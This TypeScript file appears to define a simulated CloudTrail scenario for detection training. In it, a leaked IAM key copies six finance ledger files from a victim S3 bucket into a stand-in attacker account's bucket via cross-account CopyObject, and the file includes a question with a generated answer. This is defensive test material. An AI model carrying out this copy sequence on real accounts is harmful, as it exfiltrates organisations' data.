/**
 * Playbook: exfiltrate objects with server-side copies to another account (MITRE T1537; Panther
 * AWS.S3.CopyObjectToExternalAccountBucket).
 *
 * The attacker's bucket grants the leaked key write access. CopyObject moves each object
 * without downloading it; the call is recorded in both accounts (a shared eventID).
 *
 * Detection: no SigmaHQ rule; the example detection `aws-s3-object-copied-to-other-account`
 * (detections/exfiltration.ts).
 */
import { defineScenario } from 'trailsim';
import { ATTACKER_ACCOUNT, actor, trace, victim, first } from './_kit.js';

export default defineScenario({
  name: 'attack-s3-cross-account-copy',
  title: 'Objects copied straight into the attacker\'s bucket (CopyObject across accounts)',
  description: 'A leaked key copies a bucket\'s objects with CopyObject into a bucket of the attacker\'s account, server side.',
  attack: { techniques: ['T1537', 'T1530'], tactics: ['exfiltration', 'collection'] },
  references: [
    'https://attack.mitre.org/techniques/T1537/',
    'https://docs.aws.amazon.com/AmazonS3/latest/userguide/replication.html',
  ],
  seed: 5025,
  start: '2026-05-28T06:00:00Z',
  targets: [],
  run({ sim, log, answer }) {
    const ip = sim.attackerIp();
    const acct = victim(sim);
    const user = acct.iamUser('finance-etl');
    const act = actor(sim, user, ip);
    log(`account ${acct.id}; key of ${user.arn} used from ${ip}`);

    sim.advanceTo('2026-05-28T10:50:00Z');
    const outside = sim.addAccount({ id: ATTACKER_ACCOUNT, name: 'attacker', regions: ['us-east-1'] });
    outside.addResource('AWS::S3::Bucket', 'drop-7f3a91c2', '');
    const bucket = first(acct, 'AWS::S3::Bucket', 'acme-prod-finance');
    act('s3:ListObjects', { bucketName: bucket, prefix: 'exports/', delimiter: '' });
    for (let i = 0; i < 6; i++) {
      sim.advance('2s');
      act('s3:CopyObject', { bucketName: 'drop-7f3a91c2', key: `x/${i}.csv`, 'x-amz-copy-source': `${bucket}/exports/ledger-${i}.csv` });
    }

    sim.advanceTo('2026-05-28T15:00:00Z');
    answer('Which objects left the account?', trace(sim, ip));
  },
});
